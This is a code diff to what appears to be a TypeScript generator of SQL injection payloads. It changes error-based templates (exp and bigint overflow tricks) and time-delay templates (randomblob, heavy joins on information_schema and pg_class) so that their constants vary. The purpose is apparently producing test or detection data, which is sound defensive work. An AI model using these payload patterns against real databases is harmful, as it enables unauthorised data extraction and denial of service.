@@ -59,7 +59,7 @@ export const errorTemplates = family('sql-injection/error', {
   ),
   'bigint-exp': sql(
     injected(
-      text`${conjunction} ${oneOf(text`exp(~(select * from (select ${readOut})${alias}))`, text`!(select*from(select ${serverFact})x)-~0`, text`(select 2*(if((select * from (select ${probed})s), ${digits(19)}, ${digits(19)})))`, text`~0+(select ${serverFact})`)}`
+      text`${conjunction} ${oneOf(text`exp(~(select * from (select ${readOut})${alias}))`, text`!(select*from(select ${serverFact})x)-~0`, text`(select ${integer(2, 9)}*(if((select * from (select ${probed})s), ${digits(19)}, ${digits(19)})))`, text`~0+(select ${serverFact})`)}`
     )
   ),
   geometry: sql(
@@ -146,9 +146,9 @@ const delay = mostly(
     text`(select count(*) from ${repeat(text`${oneOf('all_users', 'information_schema.columns', 'information_schema.tables', 'sysusers', 'sysibm.systables', 'domain.domains', 'rdb$fields', 'generate_series(1,5000000)', 'pg_class')} ${oneOf('as ', '')}${alias}`, 2, 7, ',')})`,
     2
   ],
-  [text`like('abcdefg',upper(hex(randomblob(${digits(9)}${maybe('/2')}))))`, 0.8],
+  [text`like('${letters(LOWER, 3, 8)}',upper(hex(randomblob(${digits(9)}${maybe('/2')}))))`, 0.8],
   [
-    text`(case when (${same(bigNumber, (n) => `${n}=${n}`)}) then (like('abcdefg',upper(hex(randomblob(${digits(9)}))))) else ${bigNumber} end)`,
+    text`(case when (${same(bigNumber, (n) => `${n}=${n}`)}) then (like('${letters(LOWER, 3, 8)}',upper(hex(randomblob(${digits(9)}))))) else ${bigNumber} end)`,
     0.5
   ],
   [text`regexp_substring(repeat(right(char(${bigNumber}),0),${digits(9)}),null)`, 0.7],
